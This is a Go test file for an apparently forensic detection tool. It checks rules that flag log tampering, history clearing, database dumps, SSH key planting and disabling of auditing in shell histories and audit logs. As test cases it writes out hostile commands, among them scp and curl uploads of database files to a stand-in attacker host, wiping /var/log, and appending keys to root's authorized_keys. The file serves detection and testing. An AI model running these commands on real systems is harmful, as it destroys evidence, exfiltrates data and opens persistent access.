package hunt

import (
	"bufio"
	"bytes"
	"context"
	"encoding/hex"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/jejak-forensics/jejak/internal/oracle"
	"github.com/jejak-forensics/jejak/parsers/parsertest"
	"github.com/jejak-forensics/jejak/timeline"
)

// lnxRules are the command rules, by kind.
var lnxRules = map[string]string{
	"JEJAK-LNX-01": "log-tamper",
	"JEJAK-LNX-02": "history-clear",
	"JEJAK-LNX-03": "db-dump",
	"JEJAK-LNX-04": "ssh-key",
	"JEJAK-LNX-05": "audit-disable",
}

// TestCommandKinds: each line is matched by exactly the kinds listed, by
// its parsed words; the benign lines (what an operator types while looking
// at a server) match none.
func TestCommandKinds(t *testing.T) {
	ctx := cmdContext{watch: []string{"var/lib/tabulasi"}}
	cases := []struct {
		line string
		cwd  string
		want string // kind, "" for none
	}{
		// Logs deleted, emptied, edited.
		{"rm -f /var/log/auth.log.1", "", "log-tamper"},
		{"sudo rm -rf /var/log/*", "", "log-tamper"},
		{"rm -f auth.log.1", "/var/log", "log-tamper"},
		{"rm -f auth.log.1", "", "log-tamper"},
		{"rm -f auth.log.1", "/tmp", ""},
		{"rm /opt/tabulasi/logs/app.log", "", "log-tamper"},
		{"rm -f /tmp/build.log", "", ""},
		{"shred -u -n 3 /var/log/secure", "", "log-tamper"},
		{"truncate -s0 /var/log/syslog", "", "log-tamper"},
		{"truncate --size 0 /var/log/wtmp", "", "log-tamper"},
		{"> /var/log/auth.log", "", "log-tamper"},
		{": > /var/log/lastlog", "", "log-tamper"},
		{"cat /dev/null > /var/log/btmp", "", "log-tamper"},
		{"echo -n >/var/log/messages", "", "log-tamper"},
		{"cp /dev/null /var/log/audit/audit.log", "", "log-tamper"},
		{"ln -sf /dev/null /var/log/auth.log", "", "log-tamper"},
		{"journalctl --vacuum-time=1s", "", "log-tamper"},
		{"sed -i '/203.0.113.9/d' /var/log/auth.log", "", "log-tamper"},
		{"find /var/log -name '*.gz' -delete", "", "log-tamper"},
		{"dd if=/dev/zero of=/var/log/wtmp bs=1 count=0", "", "log-tamper"},
		{"bash -c 'rm -f /var/log/auth.log'", "", "log-tamper"},
		{"sudo sh -c 'echo > /var/log/auth.log'", "", "log-tamper"},
		{"tee /var/log/auth.log < /dev/null", "", "log-tamper"},
		{"mv /var/log/auth.log /tmp/", "", "log-tamper"},
		{"echo $(rm -f /var/log/secure)", "", "log-tamper"},
		{"cd /tmp && rm /var/log/kern.log; ls", "", "log-tamper"},
		// History.
		{"history -c", "", "history-clear"},
		{"unset HISTFILE", "", "history-clear"},
		{"HISTSIZE=0", "", "history-clear"},
		{"export HISTFILESIZE=0", "", "history-clear"},
		{"export HISTFILE=/dev/null", "", "history-clear"},
		{"set +o history", "", "history-clear"},
		{"rm ~/.bash_history", "", "history-clear"},
		{"ln -sf /dev/null ~/.bash_history", "", "history-clear"},
		{"cat /dev/null > ~/.zsh_history", "", "history-clear"},
		{"shred -u /root/.mysql_history", "", "history-clear"},
		{"kill -9 $$", "", "history-clear"},
		// Database.
		{"pg_dump -U tabulasi rekap > /tmp/r.sql", "", "db-dump"},
		{"mysqldump --all-databases", "", "db-dump"},
		{"sudo -u postgres pg_dumpall", "", "db-dump"},
		{"sqlite3 /var/lib/tabulasi/hasil.db .dump", "", "db-dump"},
		{"scp /var/lib/tabulasi/hasil.db evil@203.0.113.9:/tmp/", "", "db-dump"},
		{"cp -a /var/lib/mysql/rekap /tmp/x", "", "db-dump"},
		{"tar czf /tmp/x.tgz hasil.db", "", "db-dump"},
		{"curl -F f=@/tmp/rekap.sql https://203.0.113.9/u", "", "db-dump"},
		// SSH keys.
		{"echo 'ssh-ed25519 AAAAC3 x@y' >> /root/.ssh/authorized_keys", "", "ssh-key"},
		{"cat /tmp/k.pub | tee -a ~/.ssh/authorized_keys", "", "ssh-key"},
		{"ssh-copy-id root@10.0.0.5", "", "ssh-key"},
		{"cp /tmp/k /home/admin/.ssh/authorized_keys2", "", "ssh-key"},
		// Auditing.
		{"auditctl -e 0", "", "audit-disable"},
		{"auditctl -D", "", "audit-disable"},
		{"systemctl stop auditd", "", "audit-disable"},
		{"sudo systemctl disable --now rsyslog.service", "", "audit-disable"},
		{"service auditd stop", "", "audit-disable"},
		{"/etc/init.d/rsyslog stop", "", "audit-disable"},
		{"pkill -9 rsyslogd", "", "audit-disable"},
		{"setenforce 0", "", "audit-disable"},
		// Benign.
		{"ls /var/log", "", ""},
		{"less auth.log", "/var/log", ""},
		{"tail -n 100 /var/log/syslog", "", ""},
		{"grep sshd /var/log/auth.log > /tmp/ssh.txt", "", ""},
		{"logrotate -f /etc/logrotate.conf", "", ""},
		{"apt-get clean", "", ""},
		{"echo 'rm -f /var/log/auth.log'", "", ""},
		{"grep 'history -c' notes.txt", "", ""},
		{"echo done >> /var/log/operator.log", "", ""},
		{"journalctl -u ssh --since today", "", ""},
		{"systemctl restart rsyslog", "", ""},
		{"systemctl status auditd", "", ""},
		{"auditctl -l", "", ""},
		{"auditctl -a exit,always -F arch=b32 -S execve", "", ""},
		{"history | tail", "", ""},
		{"cat ~/.ssh/authorized_keys", "", ""},
		{"cp /etc/hosts /tmp/hosts", "", ""},
		{"cp /etc/nginx/nginx.conf /etc/nginx/nginx.conf.bak", "", ""},
		{"psql -U tabulasi rekap", "", ""},
		{"rm -f /tmp/ssh.txt 2>/dev/null", "", ""},
		{"make 2>&1 | tee build.log", "", ""},
		{"echo ok | sudo tee -a /var/log/operator.log", "", ""},
		{"mv /var/log/app/app.log /var/log/app/app.log.old", "", ""},
	}
	for _, c := range cases {
		ctx.cwd = c.cwd
		var got []string
		for kind, m := range cmdKinds {
			for _, sc := range splitCommands(c.line) {
				if m(sc, ctx) != "" && !slices.Contains(got, kind) {
					got = append(got, kind)
				}
			}
		}
		want := []string{}
		if c.want != "" {
			want = []string{c.want}
		}
		slices.Sort(got)
		if !slices.Equal(append([]string{}, got...), want) {
			t.Errorf("%q (cwd %q): kinds %v, want %v", c.line, c.cwd, got, want)
		}
	}
}

// bashSession runs real bash, interactive, with the history file and
// HISTTIMEFORMAT set, and feeds it "history -s CMD" for each command on
// stdin, then "history -a": bash writes each command to the file with its
// own "#epoch" line, exactly as it writes typed commands, and none of them
// runs (they name real system files).
func bashSession(t *testing.T, histfile string, cmds []string) {
	t.Helper()
	bash := oracle.Tool(t, "bash", "bash")
	var in bytes.Buffer
	for _, c := range cmds {
		fmt.Fprintf(&in, "history -s %s\n", shellQuote(c))
	}
	in.WriteString("history -a\n")
	cmd := exec.Command(bash, "--norc", "--noprofile", "-i")
	cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + filepath.Dir(histfile), "HISTFILE=" + histfile, "HISTTIMEFORMAT=%F %T ", "TERM=dumb"}
	cmd.Stdin = &in
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("bash -i: %v\n%s", err, out)
	}
}

func shellQuote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

// histEntry is one command as bash wrote it, read back from the file.
type histEntry struct {
	at  time.Time
	cmd string
}

func readBashHistory(t *testing.T, p string) []histEntry {
	t.Helper()
	f, err := os.Open(p)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var out []histEntry
	var at time.Time
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		l := sc.Text()
		if n, err := strconv.ParseInt(strings.TrimPrefix(l, "#"), 10, 64); strings.HasPrefix(l, "#") && err == nil {
			at = time.Unix(n, 0).UTC()
			continue
		}
		out = append(out, histEntry{at, l})
	}
	return out
}

// TestAntiForensicsBashHistory: a bash history written by real bash in two
// sessions, one before the cut-off and one after; the second mixes an
// intruder's commands with an operator's. Each command rule's finding rows
// are exactly the intruder's commands of its kind, with the times bash
// wrote for them; the operator's commands and the first session raise
// nothing.
func TestAntiForensicsBashHistory(t *testing.T) {
	dir := t.TempDir()
	hist := filepath.Join(dir, ".bash_history")
	// Before the cut-off: routine work, including a deletion of a log
	// that is baseline, not a finding.
	bashSession(t, hist, []string{"ls -l /var/log", "rm -f /var/log/old-install.log", "df -h"})
	cut := time.Now().Truncate(time.Second).Add(time.Second)
	// bash stamps with time(2), which reads the coarse clock and can lag
	// the precise one by a tick: wait a little past the second.
	time.Sleep(time.Until(cut) + 50*time.Millisecond)
	intruder := map[string][]string{
		"JEJAK-LNX-01": {"rm -f /var/log/auth.log.1", "cat /dev/null > /var/log/wtmp", "truncate -s0 /var/log/syslog", "journalctl --vacuum-time=1s"},
		"JEJAK-LNX-02": {"unset HISTFILE", "export HISTFILESIZE=0", "set +o history", "ln -sf /dev/null ~/.bash_history", "history -c"},
		"JEJAK-LNX-03": {"pg_dump -U tabulasi rekap > /tmp/r.sql", "scp /var/lib/tabulasi/hasil.db evil@203.0.113.9:/tmp/", "sqlite3 /var/lib/tabulasi/hasil.db .dump"},
		"JEJAK-LNX-04": {"echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDz x@y' >> /root/.ssh/authorized_keys"},
		"JEJAK-LNX-05": {"systemctl stop auditd", "auditctl -e 0", "setenforce 0"},
	}
	operator := []string{"ls /var/log", "less /var/log/auth.log", "tail -n 50 /var/log/syslog", "sudo logrotate -f /etc/logrotate.conf",
		"apt-get clean", "grep sshd /var/log/auth.log > /tmp/ssh.txt", "journalctl -u ssh --since today", "systemctl restart rsyslog",
		"auditctl -l", "cat ~/.ssh/authorized_keys", "psql -U tabulasi rekap"}
	var session []string
	for i := 0; i < 5; i++ {
		// Interleave so that grouping cannot lean on order.
		session = append(session, operator[i*2:min(i*2+2, len(operator))]...)
		session = append(session, intruder[fmt.Sprintf("JEJAK-LNX-%02d", i+1)]...)
	}
	session = append(session, operator[10:]...)
	bashSession(t, hist, session)

	// bash's file is the oracle for what was typed when.
	written := map[string]time.Time{}
	for _, e := range readBashHistory(t, hist) {
		written[e.cmd] = e.at
	}
	st := buildCase(t, hist)
	fs := hunt(t, st, Config{After: cut, Watch: []string{"/var/lib/tabulasi"}})
	for id := range lnxRules {
		got := byRule(fs, id)
		want := intruder[id]
		if len(got) != 1 {
			t.Errorf("%s: %d findings, want 1 (the history file)", id, len(got))
			continue
		}
		var rows []string
		for _, e := range got[0].Events {
			rows = append(rows, e.Message)
			at, ok := written[e.Message]
			if !ok {
				t.Errorf("%s: row %q is not a command bash wrote", id, e.Message)
			} else if !e.Timestamp.Equal(at) {
				t.Errorf("%s: row %q at %s, bash wrote %s", id, e.Message, e.Timestamp, at)
			}
			if e.Timestamp.Before(cut) {
				t.Errorf("%s: row %q before the cut-off", id, e.Message)
			}
		}
		slices.Sort(rows)
		w := slices.Sorted(slices.Values(want))
		if !slices.Equal(rows, w) {
			t.Errorf("%s rows:\n got %q\nwant %q", id, rows, w)
		}
		if got[0].Technique == "" || !strings.Contains(got[0].Explanation, "after the cut-off") {
			t.Errorf("%s: technique %q, explanation %q", id, got[0].Technique, got[0].Explanation)
		}
		t.Logf("%s %s: %s", id, got[0].Technique, got[0].Explanation)
	}
	// Every command of the file is on the timeline: nothing was dropped
	// before the rules saw it.
	if n := len(readBashHistory(t, hist)); n < len(session)+3 {
		t.Fatalf("bash wrote %d commands, fed %d", n, len(session)+3)
	}
}

// TestAntiForensicsOperatorOnly: the operator's session alone, after the
// cut-off, raises no command finding.
func TestAntiForensicsOperatorOnly(t *testing.T) {
	dir := t.TempDir()
	hist := filepath.Join(dir, ".bash_history")
	bashSession(t, hist, []string{"ls /var/log", "less auth.log", "sudo logrotate -f /etc/logrotate.conf", "apt-get clean",
		"echo checked >> /var/log/operator.log", "systemctl status auditd", "rm -f /tmp/ssh.txt", "history | tail"})
	st := buildCase(t, hist)
	fs := hunt(t, st, Config{After: time.Unix(0, 0)})
	for id := range lnxRules {
		if got := byRule(fs, id); len(got) != 0 {
			t.Errorf("%s on operator activity: %s", id, got[0].Explanation)
		}
	}
}

// auditExec writes one execve event as the kernel logs it (SYSCALL,
// EXECVE, CWD, PATH, PROCTITLE, EOE sharing one serial), in the shape of
// the corpus's RHEL logs: an argument with a space, a quote or a byte
// outside printable ASCII is hex, as the kernel's audit_log_n_untrustedstring
// writes it.
func auditExec(w *bytes.Buffer, at time.Time, serial int, auid int, cwd string, args ...string) {
	stamp := fmt.Sprintf("audit(%d.%03d:%d)", at.Unix(), at.Nanosecond()/1e6, serial)
	enc := func(s string) string {
		for _, r := range s {
			if r <= 0x20 || r >= 0x7f || r == '"' {
				return strings.ToUpper(hex.EncodeToString([]byte(s)))
			}
		}
		return `"` + s + `"`
	}
	exe := args[0]
	if !strings.HasPrefix(exe, "/") {
		exe = "/usr/bin/" + exe
	}
	fmt.Fprintf(w, "type=SYSCALL msg=%s: arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55d2 a2=55d3 a3=0 items=2 ppid=2176 pid=%d auid=%d uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=8 comm=%q exe=%q key=\"exec\"\n",
		stamp, 3000+serial, auid, filepath.Base(args[0]), exe)
	fmt.Fprintf(w, "type=EXECVE msg=%s: argc=%d", stamp, len(args))
	for i, a := range args {
		fmt.Fprintf(w, " a%d=%s", i, enc(a))
	}
	w.WriteString("\n")
	fmt.Fprintf(w, "type=CWD msg=%s: cwd=%s\n", stamp, enc(cwd))
	fmt.Fprintf(w, "type=PATH msg=%s: item=0 name=%s inode=8437791 dev=fc:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL\n", stamp, enc(exe))
	fmt.Fprintf(w, "type=PROCTITLE msg=%s: proctitle=%s\n", stamp, strings.ToUpper(hex.EncodeToString([]byte(strings.Join(args, "\x00")))))
	fmt.Fprintf(w, "type=EOE msg=%s: \n", stamp)
}

// commandLines maps event IDs to process.command_line as stored.
func commandLines(t *testing.T, st timeline.Store) map[string]string {
	t.Helper()
	m := map[string]string{}
	err := st.Search(context.Background(), timeline.Query{}, func(e *timeline.Event) error {
		if e.Process != nil {
			m[e.Jejak.ID] = e.Process.CommandLine
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return m
}

// TestAntiForensicsAuditd: the corpus's audit logs (RHEL 7, Ubuntu 16,
// enriched RHEL 9, among them auditctl adding rules, useradd, sh -c, cat,
// grep) raise no command finding; execve events in the same shape, with
// the joined arguments, hex arguments, "sh -c" strings and a relative path
// resolved against the CWD record, raise exactly the expected ones.
func TestAntiForensicsAuditd(t *testing.T) {
	corpus := []string{"more/audit/go-libaudit_audit-rhel7.log", "more/audit/go-libaudit_audit-ubuntu16.log",
		"more/audit/go-libaudit_test3.log", "logs/linux/audit_enriched.log"}
	st := buildCase(t, corpus...)
	for id := range lnxRules {
		if got := byRule(hunt(t, st, Config{}), id); len(got) != 0 {
			t.Errorf("corpus audit logs: %s %s", id, got[0].Explanation)
		}
	}

	base := time.Date(2024, 2, 14, 20, 0, 0, 0, time.UTC)
	var w bytes.Buffer
	type exec struct {
		cwd  string
		args []string
		rule string
	}
	execs := []exec{
		{"/root", []string{"ls", "/var/log"}, ""},
		{"/root", []string{"logrotate", "/etc/logrotate.conf"}, ""},
		{"/root", []string{"auditctl", "-l"}, ""},
		{"/var/log", []string{"rm", "-f", "auth.log.1"}, "JEJAK-LNX-01"},
		{"/root", []string{"/bin/sh", "-c", "cat /dev/null > /var/log/auth.log"}, "JEJAK-LNX-01"},
		{"/root", []string{"mysqldump", "--all-databases", "--result-file=/tmp/all.sql"}, "JEJAK-LNX-03"},
		{"/root", []string{"tee", "-a", "/root/.ssh/authorized_keys"}, "JEJAK-LNX-04"},
		{"/root", []string{"auditctl", "-e", "0"}, "JEJAK-LNX-05"},
		{"/tmp", []string{"rm", "-f", "auth.log.1"}, ""}, // a copy in /tmp: the CWD record says where
		{"/tmp", []string{"rm", "-f", "my report.txt"}, ""},
	}
	want := map[string][]string{}
	for i, e := range execs {
		auditExec(&w, base.Add(time.Duration(i)*time.Second), 900+i, 1000, e.cwd, e.args...)
		if e.rule != "" {
			want[e.rule] = append(want[e.rule], strings.Join(e.args, " "))
		}
	}
	p := filepath.Join(t.TempDir(), "audit.log")
	if err := os.WriteFile(p, w.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	st = buildCase(t, p)
	fs := hunt(t, st, Config{After: base})
	cmdline := commandLines(t, st)
	for id := range lnxRules {
		got := byRule(fs, id)
		if len(want[id]) == 0 {
			if len(got) != 0 {
				t.Errorf("%s: unexpected %s", id, got[0].Explanation)
			}
			continue
		}
		if len(got) != 1 {
			t.Errorf("%s: %d findings, want 1", id, len(got))
			continue
		}
		var rows []string
		for _, e := range got[0].Events {
			rows = append(rows, cmdline[e.ID])
			if !strings.HasPrefix(e.Message, "EXECVE ") {
				t.Errorf("%s: row %q is not the EXECVE event", id, e.Message)
			}
		}
		t.Logf("%s: %s", id, got[0].Explanation)
		if !slices.Equal(rows, want[id]) {
			t.Errorf("%s rows (command lines joined from EXECVE):\n got %q\nwant %q", id, rows, want[id])
		}
		if !strings.Contains(got[0].Key, "user=") {
			t.Errorf("%s: key %q names no user (auid 1000)", id, got[0].Key)
		}
	}
}

// TestAntiForensicsZshHistory: real zsh with EXTENDED_HISTORY writes
// ": <epoch>:<duration>;<command>" lines; "print -s CMD" puts CMD in the
// history unexecuted, and zsh keeps the print line itself as well, which
// names the command only inside a quoted argument and must not match.
func TestAntiForensicsZshHistory(t *testing.T) {
	zsh := oracle.Tool(t, "zsh", "zsh")
	dir := t.TempDir()
	hist := filepath.Join(dir, ".zsh_history")
	cmds := []string{"rm -f /var/log/auth.log.1", "unset HISTFILE", "ls /var/log", "mysqldump -u root rekap"}
	var in bytes.Buffer
	in.WriteString("setopt EXTENDED_HISTORY\n")
	for _, c := range cmds {
		fmt.Fprintf(&in, "print -s %s\n", shellQuote(c))
	}
	in.WriteString("fc -W\n")
	cmd := exec.Command(zsh, "-f", "-i")
	cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + dir, "HISTFILE=" + hist, "SAVEHIST=1000", "HISTSIZE=1000", "TERM=dumb"}
	cmd.Stdin = &in
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("zsh -i: %v\n%s", err, out)
	}
	b, err := os.ReadFile(hist)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(b, []byte(";print -s 'rm -f /var/log/auth.log.1'\n")) || !bytes.Contains(b, []byte(";rm -f /var/log/auth.log.1\n")) {
		t.Fatalf("zsh wrote neither the print line nor the command:\n%s", b)
	}
	st := buildCase(t, hist)
	fs := hunt(t, st, Config{After: time.Unix(1, 0)})
	want := map[string][]string{"JEJAK-LNX-01": {cmds[0]}, "JEJAK-LNX-02": {cmds[1]}, "JEJAK-LNX-03": {cmds[3]}}
	for id := range lnxRules {
		got := byRule(fs, id)
		var rows []string
		for _, f := range got {
			for _, e := range f.Events {
				rows = append(rows, e.Message)
			}
		}
		if !slices.Equal(rows, want[id]) {
			t.Errorf("%s rows %q, want %q", id, rows, want[id])
		}
	}
}

// FuzzSplitCommands: any line (a history file holds whatever was typed,
// pasted or corrupted) parses without panicking, and every matcher runs
// on what comes out.
func FuzzSplitCommands(f *testing.F) {
	for _, s := range []string{"rm -f /var/log/auth.log.1", "sudo sh -c 'echo > /var/log/x'", `a "b\" c" 'd' \e`, "x >", "2>&1", "&>>", "'unterminated", `"unterminated\`, "a=b c=d", "sudo -u", "timeout", "env -u", "bash -c", "(((", "#", "echo $(rm /var/log/x)"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, line string) {
		ctx := cmdContext{cwd: "/var/log", watch: []string{"var/lib/tabulasi"}}
		for _, c := range splitCommands(line) {
			for _, m := range cmdKinds {
				m(c, ctx)
			}
		}
	})
}

// TestAntiForensicsSudoLog: sudo's COMMAND= lines in a real Ubuntu
// auth.log (Elastic's examples, 186 of them: auditctl -l, auditctl -a
// task,always, package installs, editors ...) are commands too. The one
// that deletes every audit rule, "auditctl -D", is the only finding, on
// the line the file has it.
func TestAntiForensicsSudoLog(t *testing.T) {
	rel := "more/linux/auth/elastic_examples_auth.log"
	st := buildCase(t, rel)
	b, err := os.ReadFile(parsertest.Corpus(t, rel))
	if err != nil {
		t.Fatal(err)
	}
	var line int64
	for i, l := range strings.Split(string(b), "\n") {
		if strings.HasSuffix(l, "COMMAND=/sbin/auditctl -D") {
			line = int64(i + 1)
		}
	}
	if line == 0 {
		t.Fatal("the corpus file has no auditctl -D line")
	}
	fs := hunt(t, st, Config{})
	for id := range lnxRules {
		got := byRule(fs, id)
		if id != "JEJAK-LNX-05" {
			if len(got) != 0 {
				t.Errorf("%s: %s", id, got[0].Explanation)
			}
			continue
		}
		if len(got) != 1 || len(got[0].Events) != 1 {
			t.Fatalf("%s: %d findings, want 1 with 1 row", id, len(got))
		}
		if r := got[0].Events[0].Provenance.Record; r != line {
			t.Errorf("%s: row on line %d, the file has auditctl -D on line %d", id, r, line)
		}
		t.Logf("%s: %s", id, got[0].Explanation)
	}
}

func TestHistoryOwner(t *testing.T) {
	for p, want := range map[string]string{
		"root/.bash_history":               "root",
		"home/budi/.bash_history":          "budi",
		"srv1/home/budi/.zsh_history":      "budi",
		"var/lib/postgresql/.psql_history": "",
		".bash_history":                    "",
		"home/.bash_history":               "",
		"root/sub/.bash_history":           "",
	} {
		if got := historyOwner(p); got != want {
			t.Errorf("historyOwner(%q) = %q, want %q", p, got, want)
		}
	}
}
